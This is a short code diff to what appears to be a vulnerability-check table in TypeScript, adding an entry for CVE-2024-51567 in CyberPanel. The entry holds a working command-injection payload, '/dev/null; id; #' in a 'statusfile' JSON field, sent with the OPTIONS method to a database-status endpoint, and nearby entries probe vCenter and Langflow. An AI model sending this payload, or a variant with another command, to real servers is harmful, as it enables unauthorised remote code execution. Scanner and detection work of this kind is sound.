@@ -275,6 +275,17 @@ const exploits: readonly (readonly [cve: string, product: string, request: strin
   ],
   ['CVE-2021-21972', 'vcenter', get('/ui/vropspluginui/rest/services/uploadova'), /405|200/],
   [
+    'CVE-2024-51567',
+    'cyberpanel',
+    post(
+      '/dataBases/upgrademysqlstatus',
+      '{"statusfile":"/dev/null; id; #","csrftoken":""}',
+      'Content-Type: application/json\r\n',
+      'OPTIONS',
+    ),
+    id,
+  ],
+  [
     'CVE-2025-3248',
     'langflow',
     post(
